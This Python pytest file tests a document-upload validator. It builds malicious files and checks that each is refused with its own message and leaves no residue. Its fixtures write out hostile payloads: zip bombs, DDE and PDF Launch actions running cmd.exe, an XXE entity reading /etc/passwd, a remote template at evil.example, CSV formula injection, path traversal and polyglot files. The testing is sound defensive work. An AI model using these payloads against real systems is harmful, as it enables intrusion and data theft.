"""Files made to do harm: each is refused with a sentence of its own, and nothing of it is left."""

import io
import zipfile
from pathlib import Path

import pikepdf
import pytest

from service.evidence.file_refusals import (
    FileEmpty,
    FileHasProgram,
    FileHoldsFiles,
    FileIsTwoThings,
    FileKindRefused,
    FileLocked,
    FileNameUnsafe,
    FileNotWhatItSays,
    FileReachesOut,
    FileTooLargeInside,
    FileUnreadable,
)
from tests.service.evidence import made_files as made
from tests.service.evidence.made_files import taken


def bomb(*, declared: bool = True) -> bytes:
    """201 MB of zeros in 200 KB."""
    packed = made.word_with({"word/media/image1.png": bytes(201_000_000)})
    if declared:
        return packed
    # It says that it is small: in its own head and in the directory.
    return packed.replace((201_000_000).to_bytes(4, "little"), (2_000).to_bytes(4, "little"))


def many() -> bytes:
    return made.word_with({f"word/media/{number}.xml": "<a/>" for number in range(2_001)})


def prepended(before: bytes, content: bytes) -> bytes:
    return before + content


def dde() -> bytes:
    code = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in (" DDE", 'AUTO c:\\cmd.exe "/k calc" '))
    return made.word(f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{code}</w:p>')


def settings_rels(*each: tuple[str, str, bool]) -> bytes:
    return made.word_with({"word/_rels/settings.xml.rels": made.relations(*each)})


def overlapping() -> bytes:
    """Two entries of the directory that unpack the same bytes, which is how 10 KB become 5 GB."""
    whole = bytearray(made.word_with({"word/media/a.png": b"a" * 50, "word/media/b.png": b"b" * 50}))
    with zipfile.ZipFile(io.BytesIO(bytes(whole))) as archive:
        first = archive.getinfo("word/media/a.png").header_offset
        second = archive.getinfo("word/media/b.png").header_offset
        directory = archive.start_dir
    at = whole.index(second.to_bytes(4, "little"), directory)
    whole[at : at + 4] = first.to_bytes(4, "little")
    return bytes(whole)


def action(kind: str, **more: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name(f"/{kind}"), **more)  # type: ignore[arg-type]


def names(kind: str) -> pikepdf.Dictionary:
    return pikepdf.Dictionary({f"/{kind}": pikepdf.Dictionary(Names=pikepdf.Array([]))})


GIFAR = made.gif_that_is_a_script() + made.zipped({"Evil.class": b"\xca\xfe\xba\xbe"})
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)

BAD = {
    "nothing at all": (b"", "a.txt", FileEmpty, "nothing in this file"),
    "a program": (b"MZ" + bytes(100), "setup.exe", FileKindRefused, "You can send PDF"),
    "a page": (b"<html><script>alert(1)</script>", "page.html", FileKindRefused, "You can send"),
    "a drawing with scripts": (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "a.svg", FileKindRefused, "can send"),
    "a page called text": (b" <!DOCTYPE html><p>", "a.txt", FileNotWhatItSays, "something else|web page"),
    "a page deeper in a text": (
        b"\xef\xbb\xbf\n<svg onload=alert(1)>",
        "a.txt",
        FileNotWhatItSays,
        "web page|something else",
    ),
    "bytes called text": (bytes(range(256)), "a.txt", FileNotWhatItSays, "plain text"),
    "a program called a photo": (b"MZ" + bytes(100), "photo.jpg", FileNotWhatItSays, "a JPEG picture"),
    "a GIF that is a script, called a photo": (made.gif_that_is_a_script(), "a.jpg", FileNotWhatItSays, "JPEG"),
    "a GIF that is a script, called text": (made.gif_that_is_a_script(), "a.txt", FileNotWhatItSays, "plain text"),
    "a GIFAR called a photo": (GIFAR, "a.png", FileNotWhatItSays, "PNG"),
    "a photo that is an archive too": (made.photo() + made.zipped({"a": "b"}), "a.jpg", FileIsTwoThings, "beside"),
    "a recording that is an archive too": (
        made.recording() + made.zipped({"a": "b"}),
        "a.mp3",
        FileIsTwoThings,
        "beside",
    ),
    "a film with a page after it": (made.film() + b"<html><script>", "a.mp4", FileIsTwoThings, "beside"),
    "a recording with a page after it": (made.recording() + b"<html>" * 9, "a.mp3", FileIsTwoThings, "beside"),
    "a PDF called a photo": (made.pdf(), "a.jpg", FileNotWhatItSays, "JPEG"),
    "a PDF after a page": (prepended(b"<html><!--", made.pdf()), "a.pdf", FileNotWhatItSays, "PDF"),
    "a PDF after an archive": (prepended(made.zipped({"a": "b"}), made.pdf()), "a.pdf", FileNotWhatItSays, "a PDF"),
    "a PDF before an archive": (made.pdf() + made.zipped({"a": "b"}), "a.pdf", FileIsTwoThings, "before or after"),
    "a PDF before a page": (made.pdf() + b"<script>alert(1)</script>", "a.pdf", FileIsTwoThings, "before or after"),
    "half a PDF": (made.pdf()[:-60] + b"\nstartxref\n0\n%%EOF\n", "a.pdf", FileUnreadable, "damaged"),
    "a PDF with a lock": (made.locked_pdf(), "a.pdf", FileLocked, "without a lock"),
    "a PDF with a script": (
        made.pdf(OpenAction=action("JavaScript", JS=pikepdf.String("app.alert(1)"))),
        "a.pdf",
        FileHasProgram,
        "program",
    ),
    "a PDF with named scripts": (made.pdf(Names=names("JavaScript")), "a.pdf", FileHasProgram, "program"),
    "a PDF that starts a program": (
        made.pdf(AA=pikepdf.Dictionary(WC=action("Launch", F=pikepdf.String("cmd.exe")))),
        "a.pdf",
        FileHasProgram,
        "program",
    ),
    "a PDF that sends a form": (made.pdf(OpenAction=action("SubmitForm")), "a.pdf", FileReachesOut, "elsewhere"),
    "a PDF with files in it": (made.pdf(Names=names("EmbeddedFiles")), "a.pdf", FileHoldsFiles, "other files inside"),
    "a zip bomb that says so": (bomb(), "a.docx", FileTooLargeInside, "200 MB"),
    "a zip bomb that says nothing": (bomb(declared=False), "a.docx", FileUnreadable, "damaged"),
    "a document of 2,001 parts": (many(), "a.docx", FileTooLargeInside, "2,000 parts"),
    "a document whose parts lie over each other": (overlapping(), "a.docx", FileIsTwoThings, "something else"),
    "a document after a page": (prepended(b"<html>", made.word()), "a.docx", FileNotWhatItSays, "something else"),
    "a document before a page": (made.word() + b"<html>", "a.docx", FileIsTwoThings, "something else"),
    "a document with a way out": (made.word_with({"../../evil.sh": b"x"}), "a.docx", FileNameUnsafe, "another place"),
    "an archive called a document": (made.zipped({"a.txt": "b"}), "a.docx", FileNotWhatItSays, "something else"),
    "a workbook called a document": (made.workbook(), "a.docx", FileNotWhatItSays, "something else"),
    "a document with macros": (
        made.word(main="application/vnd.ms-word.document.macroEnabled.main+xml", word__vbaProject_bin=b""),
        "a.docx",
        FileHasProgram,
        "a macro",
    ),
    "a macro in a plain document": (made.word_with({"word/vbaProject.bin": OLE}), "a.docx", FileHasProgram, "a macro"),
    "an old program inside": (
        made.word_with({"word/embeddings/oleObject1.bin": OLE}),
        "a.docx",
        FileHasProgram,
        "macro",
    ),
    "a file inside": (
        made.word_with({"word/embeddings/secret.docx": made.word()}),
        "a.docx",
        FileHoldsFiles,
        "inside it",
    ),
    "macros in the data of a chart": (
        made.word_with({"word/embeddings/a.xlsx": made.workbook({"xl/vbaProject.bin": OLE})}),
        "a.docx",
        FileHasProgram,
        "a macro",
    ),
    "a template from elsewhere": (
        settings_rels(("attachedTemplate", "https://evil.example/x.dotm", True)),
        "a.docx",
        FileReachesOut,
        "a template",
    ),
    "a picture from elsewhere": (
        settings_rels(("image", "\\\\evil\\x.png", False)),
        "a.docx",
        FileReachesOut,
        "fetches",
    ),
    "a field that starts a program": (dde(), "a.docx", FileReachesOut, "fetches"),
    "data from elsewhere": (made.workbook({"xl/connections.xml": "<a/>"}), "a.xlsx", FileReachesOut, "linked data"),
    "a billion laughs": (
        made.word_with({"word/a.xml": '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>'}),
        "a.docx",
        FileHasProgram,
        "DOCTYPE",
    ),
    "a look at other files": (
        made.word_with({"word/a.xml": '<!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]><l>&a;</l>'}),
        "a.docx",
        FileHasProgram,
        "DOCTYPE",
    ),
    "an OpenDocument macro": (made.open_document(Basic__Standard__a=b"x"), "a.odt", FileHasProgram, "a macro"),
    "an OpenDocument event": (
        made.open_document(content='<script:event-listener script:language="ooo:script"/>'),
        "a.odt",
        FileHasProgram,
        "a macro",
    ),
    "an OpenDocument picture from elsewhere": (
        made.open_document(content='<draw:image xlink:href="https://evil.example/x.png"/>'),
        "a.odt",
        FileReachesOut,
        "fetches",
    ),
    "an OpenDocument that is locked": (
        made.zipped(
            {
                "mimetype": "application/vnd.oasis.opendocument.text",
                "content.xml": "<a/>",
                "META-INF/manifest.xml": '<m xmlns="m"><file-entry><encryption-data/></file-entry></m>',
            },
            stored=("mimetype",),
        ),
        "a.odt",
        FileLocked,
        "password",
    ),
    "a table with a formula": (b"name,sum\nAnn,\"=cmd|' /C calc'!A0\"\n", "a.csv", FileHasProgram, "formula"),
    "a table with a formula after a tab": (b"name\tsum\nAnn\t@SUM(A1)\n", "a.csv", FileHasProgram, "formula"),
    "a broken photo": (made.photo()[:700], "a.jpg", FileUnreadable, "damaged"),
    "a photo of more points than any camera": (
        made.photo("PNG", (9_000, 8_000)),
        "a.png",
        FileTooLargeInside,
        "60 million",
    ),
}


@pytest.mark.parametrize("what", BAD)
def test_what_could_harm_is_refused_with_its_own_sentence_and_leaves_nothing(what: str, tmp_path: Path) -> None:
    content, name, refusal, sentence = BAD[what]
    with pytest.raises(refusal, match=sentence):
        taken(content, name, tmp_path)
    assert not (tmp_path / "incoming").exists() or list((tmp_path / "incoming").iterdir()) == []
